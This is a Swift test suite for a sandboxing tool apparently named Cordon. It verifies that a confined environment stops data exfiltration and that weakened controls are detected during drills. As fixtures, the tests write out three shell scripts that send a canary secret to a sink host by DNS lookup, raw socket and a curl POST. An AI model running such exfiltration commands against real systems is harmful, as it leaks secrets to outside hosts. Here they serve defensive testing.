import Foundation
import Testing

@Suite(.serialized) struct `Attacks on an environment` {
  private static let attempts = [
    "by-name":
      "exec /usr/bin/python3 -c 'import os, socket\ntry: socket.gethostbyname(os.environ[\"CORDON_CANARY\"][:32].lower() + \".\" + os.environ[\"CORDON_SINK_ZONE\"])\nexcept OSError as e: print(e)'",
    "by-connection":
      "exec /usr/bin/python3 -c 'import os, socket\nhost, port = os.environ[\"CORDON_SINK\"].rsplit(\":\", 1)\ntry: socket.create_connection((host, int(port)), 3).sendall(os.environ[\"CORDON_CANARY\"].encode())\nexcept OSError as e: print(e)'",
    "by-web": "exec curl -s -m 5 --proxy \"$CORDON_PROXY\" -d \"$CORDON_CANARY\" \"http://$CORDON_SINK/\"",
  ]

  private static func folder(_ place: Place) throws -> String {
    let folder = place.folder + "/attacks"
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    for (name, script) in attempts {
      try Data("#!/bin/sh\n\(script)\n".utf8).write(to: URL(filePath: folder + "/" + name))
      try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: folder + "/" + name)
    }
    return folder
  }

  @Test func `one's own executables get nothing out`() throws {
    let place = try Place()
    let said = try Cordon.run(
      "attack", place.spec, "--with", try Self.folder(place), "--format", "json", seconds: 240)
    #expect(said.status == 0 && said.text.contains("\"verdict\" : \"closed\""), "\(said)")
    #expect(!said.text.contains("breach"), "\(said)")
  }

  @Test func `with the DNS allowlist off one of them does, and it is said`() throws {
    let place = try Place()
    let said = try Cordon.run(
      "attack", place.spec, "--with", try Self.folder(place), "--weaken", "dns-allowlist", seconds: 240)
    #expect(said.status == 1 && said.text.contains(/by-name +breach/), "\(said)")
    #expect(!said.text.contains(/by-connection +breach/), "\(said)")
  }

  /// A suite that cannot fail proves nothing. That every control's absence is noticed is shown beside what the proof says
  /// of it; this is the command that shows it, whole with CORDON_FULL_AGREEMENT set.
  @Test func `the absence of each control is noticed`() throws {
    let place = try Place()
    let isFull = ProcessInfo.processInfo.environment["CORDON_FULL_AGREEMENT"] != nil
    let only = isFull ? [] : ["--only", "dns-label", "--only", "clipboard"]
    let said = try run(
      [Cordon.executable, "attack", place.spec, "--weaken", "all-in-turn", "--format", "json"] + only,
      seconds: 500)
    #expect(said.status == 0 && said.text.contains("\"verdict\" : \"noticed\""), "\(said)")
    let controls =
      try Cordon.run("up", "--help").text.components(separatedBy: "switch off, in a drill:").last ?? ""
    for control in [
      "dns-allowlist", "proxy-allowlist", "endpoint-policy", "network-namespace", "uid-separation",
      "browser-policy", "browser-door", "portal-crossings",
    ] { #expect(controls.contains(control)) }
    for control in ["dns-allowlist", "portal-crossings"] {
      #expect(said.text.contains("\"\(control)\""), "\(control) is tried")
    }
    #expect(isFull || !said.text.contains("\"uid-separation\""), "\(said)")
    let nobody = try Cordon.run(
      "attack", place.spec, "--weaken", "all-in-turn", "--only", "s3-foreign-endpoint-that-is-none")
    #expect(nobody.status == 3 && nobody.complaint.contains("no attack is called"), "\(nobody)")
  }

  @Test func `a drill does not touch a folder that held data, and data does not go into a drill's`() throws {
    let place = try Place()
    let drill = place.folder + "/drill.json"
    try Data("{}".utf8).write(to: URL(filePath: drill))
    try Up.with(place) { up in
      try up.cordon("down")
      let over = try Cordon.run("up", place.spec, "--state", place.state, "--drill", drill)
      #expect(
        over.status == 2 && over.complaint.contains("a drill needs a state folder of its own"), "\(over)")
    }
    let weaken = try Cordon.run("up", place.spec, "--state", place.state, "--weaken", "seccomp")
    #expect(weaken.status == 2 && weaken.complaint.contains("--weaken is for drills only"), "\(weaken)")
    let other = place.folder + "/drill-state"
    try Up.with(place, state: other, arguments: ["--drill", drill, "--weaken", "seccomp"]) { up in
      #expect(try up.cordon("status").text.contains("DRILL: switched off: seccomp"))
      try up.cordon("down")
      let real = try Cordon.run("up", place.spec, "--state", other)
      #expect(real.status == 2 && real.complaint.contains("belongs to a drill"), "\(real)")
    }
  }
}
